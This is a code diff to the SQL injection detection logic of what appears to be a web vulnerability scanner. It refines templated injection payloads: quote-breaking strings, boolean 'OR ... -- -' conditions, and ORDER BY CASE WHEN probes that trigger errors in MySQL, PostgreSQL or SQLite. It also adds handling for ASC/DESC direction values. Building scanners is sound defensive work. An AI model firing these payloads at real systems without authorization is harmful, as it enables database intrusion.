@@ -30,7 +30,7 @@ from s2n.s2nscanner.sdk import (
 
 # {v}: the value that is there, {t}: a fresh word, {c}: a condition, {e}: an expression, {s}: seconds.
 
-BREAKS = ("{v}'{t}", "{v}'\"){t}\\")
+BREAKS = ("{v}'{t}", "{v}'\"{t})\\")
 """The last ends strings of either kind, closes a parenthesis, escapes an end: no SQL context survives it."""
 
 # LIKE, so that a pattern's own % may follow: 'x' LIKE 'x%'.
@@ -44,11 +44,11 @@ TEXT_CONTEXTS = (
     "{v}')) AND {c} AND (('x' LIKE 'x",
 )
 NUMBER_CONTEXTS = ("{v} AND {c}", "{v}) AND {c} AND (7=7", "{v})) AND {c} AND ((7=7")
-NAME_CONTEXTS = (  # ORDER BY: another order, or a failure (first MySQL's, then SQLite's)
-    "(CASE WHEN {c} THEN {v} ELSE NULL END)",
-    "{v},(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)",
-    "{v},(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)",
-)
+# ORDER BY: another order, or a failure (MySQL and PostgreSQL; SQLite and PostgreSQL).
+_MANY = "(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"
+_HUGE = "(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)"
+NAME_CONTEXTS = ("(CASE WHEN {c} THEN {v} ELSE NULL END)", f"{_MANY},{{v}}", f"{_HUGE},{{v}}")
+DIRECTION_CONTEXTS = (f"{{v}},{_MANY}", f"{{v}},{_HUGE}")
 
 # These take away what restricts a statement, so they are kept for statements that only read.
 READING_CONTEXTS = ("{v}' OR {c}-- -", "{v}' AND {c}-- -", "{v}') OR {c}-- -", '{v}" OR {c}-- -')
@@ -82,7 +82,8 @@ READING_WAITS = (
 _WAITING = re.compile(r"SLEEP|pg_sleep|receive_message|DELAY")
 
 _NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
-_NAME = re.compile(r"(?i)[a-z_][\w.]*(?:[ +](?:asc|desc))?|\d{1,2}")
+_NAME = re.compile(r"(?i)[a-z_][\w.]*|\d{1,2}")
+_DIRECTION = re.compile(r"(?i)(?:[\w.]+ )?(?:asc|desc)")
 _PASSWORD = re.compile(r"(?i)pass|pwd|secret")
 
 
@@ -137,7 +138,7 @@ def _malformed(probe: Probe, template: str) -> Malformed:
             unbalanced=lambda fresh: f"{value}-{fresh.number()}+",
         )
     harmless = [lambda fresh: value + fresh.letters()]
-    if _NAME.fullmatch(value):  # an unknown column is an error of its own
+    if _order_contexts(value):  # an unknown column is an error of its own
         harmless.append(lambda _: f"{value},{value}")
     return Malformed(
         broken=lambda word: _fill(template, probe, t=word),
@@ -172,8 +173,7 @@ async def _by_condition(probe: Probe) -> Proof | None:
     value = probe.point.value
     broken = _fill(BREAKS[-1], probe, t=probe.fresh.letters())
     if not page.same(await probe.send(broken), broken):  # otherwise the value breaks nothing
-        templates = [*_contexts(value), *(NAME_CONTEXTS if _NAME.fullmatch(value) else ())]
-        for template in templates:
+        for template in (*_contexts(value), *_order_contexts(value)):
             proof = await difference(probe, _condition(probe, template), page)
             if proof is not None:
                 return proof
@@ -207,7 +207,7 @@ def _waits(point: InputPoint) -> Iterator[tuple[str, str]]:
     yield from TEXT_WAITS
     if not point.value or _NUMBER.fullmatch(point.value):
         yield from NUMBER_WAITS
-    elif _NAME.fullmatch(point.value):
+    elif _order_contexts(point.value):
         yield from NAME_WAITS
     if _only_reads(point):
         yield from READING_WAITS
@@ -215,6 +215,12 @@ def _waits(point: InputPoint) -> Iterator[tuple[str, str]]:
 
 def _contexts(value: str) -> tuple[str, ...]:
     return (*NUMBER_CONTEXTS, *TEXT_CONTEXTS) if _NUMBER.fullmatch(value) else TEXT_CONTEXTS
+
+
+def _order_contexts(value: str) -> tuple[str, ...]:
+    if _DIRECTION.fullmatch(value):
+        return DIRECTION_CONTEXTS
+    return NAME_CONTEXTS if _NAME.fullmatch(value) else ()
 
 
 def _condition(probe: Probe, template: str) -> Condition:
